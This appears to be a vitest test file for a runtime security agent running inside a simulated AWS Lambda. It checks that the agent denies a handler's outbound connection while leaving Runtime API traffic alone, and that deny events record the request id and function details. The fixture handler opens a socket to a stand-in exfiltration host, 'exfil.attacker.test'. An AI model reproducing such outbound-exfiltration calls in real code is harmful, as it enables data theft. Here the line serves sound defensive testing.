// In a local Lambda running the real AWS runtime interface client (aws-lambda-ric, via lambda-sim):
// the Runtime API traffic is never governed, the handler's denied call fails with ERR_ACCESS_DENIED,
// and its event carries the invocation's request id, function name and runtime.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startLambda } from '@appdefender/lambda-sim';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type AgentEvent, agentPath, ensureAgentBuilt } from './harness.js';

const taskRoot = mkdtempSync(join(tmpdir(), 'agent-lambda-'));

beforeAll(async () => {
  await ensureAgentBuilt();
  writeFileSync(
    join(taskRoot, 'index.js'),
    `const net = require('node:net');
    exports.handler = async () => {
      const code = await new Promise((resolve) => {
        const socket = net.connect({ host: 'exfil.attacker.test', port: 443, lookup: () => {} });
        socket.on('error', (error) => resolve(error.code));
        socket.on('connect', () => resolve('connected'));
      });
      return { code };
    };
    `,
  );
  writeFileSync(
    join(taskRoot, 'policy.json'),
    JSON.stringify({ name: 'lambda-deny', network: 'deny', filesystem: 'grant', process: 'grant' }),
  );
}, 120_000);
afterAll(() => rmSync(taskRoot, { recursive: true, force: true }));

describe('inside the real Lambda runtime client', () => {
  it('blocks the handler, never the Runtime API, and tags the event with the request id', async () => {
    const lambda = await startLambda({
      handler: 'index.handler',
      taskRoot,
      functionName: 'checkout-fn',
      env: {
        NODE_OPTIONS: `--require ${agentPath}`,
        ES_POLICY_FILE: join(taskRoot, 'policy.json'),
        ES_RUNTIME_DIR: join(taskRoot, 'runtime-dir'),
      },
    });
    try {
      const first = await lambda.invoke({});
      const second = await lambda.invoke({});
      expect(first).toMatchObject({ ok: true, result: { code: 'ERR_ACCESS_DENIED' } });
      expect(second).toMatchObject({ ok: true, result: { code: 'ERR_ACCESS_DENIED' } });
      const events = lambda.logs
        .map((line) => line.slice(line.indexOf('{')))
        .filter((line) => line.startsWith('{"id"'))
        .map((line) => JSON.parse(line) as AgentEvent);
      // each invocation's first occurrence is its own event, with its own request id
      expect(events.map((event) => event.requestId)).toEqual([first.requestId, second.requestId]);
      expect(events[0]).toMatchObject({
        action: 'deny',
        target: 'exfil.attacker.test:443',
        function: 'checkout-fn',
        runtime: 'nodejs20.x',
        provider: 'aws',
        policyGroup: 'lambda-deny',
      });
      // the runtime's own traffic to the Runtime API never shows up
      expect(events.some((event) => String(event.target).startsWith(lambda.runtimeApi))).toBe(false);
    } finally {
      await lambda.shutdown();
    }
  }, 60_000);
});
